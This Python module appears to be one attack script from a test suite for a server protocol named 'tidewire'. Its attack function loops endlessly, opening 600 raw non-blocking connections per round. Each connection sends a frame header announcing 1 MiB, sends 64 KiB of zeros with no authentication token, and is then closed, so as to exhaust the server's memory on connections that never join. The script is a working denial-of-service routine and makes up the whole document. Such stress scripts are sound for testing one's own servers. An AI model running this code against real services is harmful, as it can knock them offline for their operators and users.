"""600 connections, again and again, begin a frame of 1 MiB and show no token."""

from __future__ import annotations

import contextlib
import struct

from attacks.target import Target

ITEM = 5
MEMORY_MIB = 100
"""1,000 connections that have not joined, with 32 KiB that were read of each and as much of what
keeps them.
"""


def attack(target: Target) -> None:
    begun = struct.pack("<IBBHQ", 1 << 20, 1, 0, 12, 0) + b"tidewire\1\0\1\0" + bytes(1 << 16)
    while True:
        links = []
        with contextlib.suppress(OSError):
            for _ in range(600):
                link = target.raw()
                link.socket.setblocking(False)
                links.append(link)
                with contextlib.suppress(BlockingIOError):
                    link.socket.send(begun)
        for link in links:
            link.close()
